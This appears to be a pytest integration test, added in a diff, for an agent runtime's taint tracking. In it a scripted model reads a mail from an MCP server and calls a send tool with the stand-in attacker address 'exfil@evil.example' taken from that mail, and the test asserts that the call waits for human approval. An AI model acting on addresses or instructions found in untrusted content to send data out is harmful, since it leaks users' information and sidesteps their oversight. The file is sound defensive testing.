@@ -1,0 +1,183 @@
+"""Taint end to end: a scripted model reads a mail from a real MCP server (untrusted, as MCP
+tools are unless declared) and then calls the server's `send` with an address it found
+there. The call waits for a person, and the request names the result the address came
+from; the same call with the address given in the goal runs without one."""
+
+from __future__ import annotations
+
+import json
+import sys
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from nats.js import JetStreamContext
+
+from helmline.contracts import (
+    ApprovalRequested,
+    StepScheduled,
+    ToolCallAuthorized,
+    ToolCallCompleted,
+)
+from helmline.planner.testing import Reply, ScriptedModel, with_asides
+from helmline.runtime import EventStore
+from helmline.runtime.testing import ServiceProcesses, eventually
+
+from .conftest import Helmline
+from .goal_sessions import ended, log_of, start
+from .mcp_servers import federating_stack, until_federated
+
+MAIL_SERVER = Path(__file__).with_name("mail_mcp_server.py")
+ADDRESS = "exfil@evil.example"
+
+
+@pytest.fixture(scope="module")
+def model() -> Iterator[ScriptedModel]:
+    with ScriptedModel() as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return tmp_path_factory.mktemp("mail") / "sent.jsonl"
+
+
+@pytest.fixture(scope="module")
+def stack(
+    nats_url: str, tmp_path_factory: pytest.TempPathFactory, model: ScriptedModel, ledger: Path
+) -> Iterator[ServiceProcesses]:
+    mail = {
+        "id": "mail",
+        "stdio": {"command": sys.executable, "args": [str(MAIL_SERVER), str(ledger)]},
+        # Low risk: the built-in policy lets its calls run unless a taint says otherwise.
+        "risk": "low",
+        "tools": {"read_inbox": {"effect": "none", "action": "read"}},
+    }
+    with pytest.MonkeyPatch.context() as env:
+        env.setenv("HELMLINE_LLM_BASE_URL", model.openai_url)
+        env.setenv("HELMLINE_LLM_API_KEY", "sk-scripted")
+        env.setenv("HELMLINE_LLM_MODEL", "scripted-1")
+        folder = tmp_path_factory.mktemp("taint-stack")
+        with federating_stack(nats_url, folder, [mail]) as running:
+            yield running
+
+
+def _script(model: ScriptedModel, key: str) -> None:
+    """Read the inbox, then send the figures to the address the mail names."""
+    model.script(
+        key,
+        with_asides(
+            [
+                Reply.call("mail__read_inbox"),
+                Reply.call("mail__send", to=ADDRESS, body="Q3: revenue and costs as agreed"),
+                Reply.call(
+                    "finish",
+                    summary="sent",
+                    criteria=[{"criterion": "sent", "met": True, "evidence": "the send"}],
+                ),
+            ]
+        ),
+    )
+
+
+def _sent(ledger: Path) -> list[dict[str, str]]:
+    if not ledger.exists():
+        return []
+    return [json.loads(line) for line in ledger.read_text().splitlines()]
+
+
+async def test_an_address_read_in_a_mail_and_sent_to_waits_naming_the_mail(
+    stack: ServiceProcesses,
+    model: ScriptedModel,
+    js: JetStreamContext,
+    store: EventStore,
+    tenant: str,
+    ledger: Path,
+    helmline: Helmline,
+) -> None:
+    await until_federated(js, "mail")
+    key = f"[taint-{uuid.uuid4().hex[:8]}]"
+    _script(model, key)
+    session_id = await start(store, tenant, f"Answer the auditor's mail in my inbox {key}", "act")
+
+    async def asked() -> ApprovalRequested | None:
+        return next(
+            (
+                e.data
+                for e in await log_of(store, tenant, session_id)
+                if isinstance(e.data, ApprovalRequested)
+            ),
+            None,
+        )
+
+    request: ApprovalRequested = await eventually(asked, timeout_s=60, what="an approval request")
+    log = await log_of(store, tenant, session_id)
+    read = next(e.data for e in log if isinstance(e.data, ToolCallCompleted))
+    assert read.tool == "mail__read_inbox"
+    assert read.untrusted
+    assert not read.injection_suspected
+    assert (request.tool, request.arguments) == (
+        "mail__send",
+        {"to": ADDRESS, "body": "Q3: revenue and costs as agreed"},
+    )
+    assert request.rule == "approve-arguments-from-untrusted-output"
+    assert request.taint is not None
+    assert request.taint.arguments_from_untrusted == ("to",)
+    (source,) = request.taint.sources
+    assert (source.step_id, source.call_id, source.tool) == (
+        read.step_id,
+        read.call_id,
+        "mail__read_inbox",
+    )
+    assert ADDRESS in source.excerpt
+    assert f"step {read.step_id} (mail__read_inbox, call {read.call_id})" in request.reason
+    # The scheduled call carried the taint the planner computed; nothing was sent.
+    scheduled = next(
+        e.data for e in log if isinstance(e.data, StepScheduled) and e.data.tool == "mail__send"
+    )
+    assert scheduled.taint == request.taint
+    assert not any(
+        isinstance(e.data, ToolCallAuthorized) and e.data.tool == "mail__send" for e in log
+    )
+    assert _sent(ledger) == []
+    # People see the source in the approval queue.
+    code, listed, errors = await helmline("approvals", "-t", tenant, "--json")
+    assert code == 0, errors
+    queued = next(r for r in json.loads(listed) if r["session_id"] == session_id)
+    assert queued["taint"]["sources"][0]["tool"] == "mail__read_inbox"
+    assert queued["taint"]["arguments_from_untrusted"] == ["to"]
+
+
+async def test_the_same_send_to_an_address_the_goal_gives_runs_without_a_person(
+    stack: ServiceProcesses,
+    model: ScriptedModel,
+    js: JetStreamContext,
+    store: EventStore,
+    tenant: str,
+    ledger: Path,
+) -> None:
+    await until_federated(js, "mail")
+    key = f"[taint-{uuid.uuid4().hex[:8]}]"
+    _script(model, key)
+    goal = f"Send the Q3 figures from my inbox to the auditor at {ADDRESS} {key}"
+    session_id = await start(store, tenant, goal, "act")
+
+    state = await ended(store, tenant, session_id)
+    log = await log_of(store, tenant, session_id)
+    assert state.status == "completed", state.outcome
+    assert not any(isinstance(e.data, ApprovalRequested) for e in log)
+    send = next(
+        e.data for e in log if isinstance(e.data, StepScheduled) and e.data.tool == "mail__send"
+    )
+    # The model had read untrusted output, but the address is the goal's own.
+    assert send.taint is not None
+    assert send.taint.influenced_by_untrusted
+    assert send.taint.arguments_from_untrusted == ()
+    authorized = next(
+        e.data
+        for e in log
+        if isinstance(e.data, ToolCallAuthorized) and e.data.tool == "mail__send"
+    )
+    assert authorized.rule == "allow-low-and-medium-risk"
+    assert {"to": ADDRESS, "body": "Q3: revenue and costs as agreed"} in _sent(ledger)
